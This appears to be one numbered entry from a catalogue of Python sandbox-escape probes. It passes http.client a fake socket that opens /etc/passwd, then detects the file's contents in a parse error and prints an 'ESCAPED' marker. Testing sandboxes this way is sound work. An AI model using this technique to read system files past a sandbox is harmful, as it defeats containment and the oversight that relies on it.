# escape: 552
# technique: http.client is given a descriptor that is open already
# family: dnet
# goal: network
# first-seen: http.client's design
import http.client, io, os
class S:
    def makefile(self, *a): return os.fdopen(os.open('/etc/passwd', os.O_RDONLY), 'rb')
    def sendall(self, data): pass
c = http.client.HTTPConnection('x'); c.sock = S(); c.request('GET', '/')
try: c.getresponse()
except http.client.BadStatusLine as error:
    if 'root:' in str(error): print('ESCAPED:file as a response')
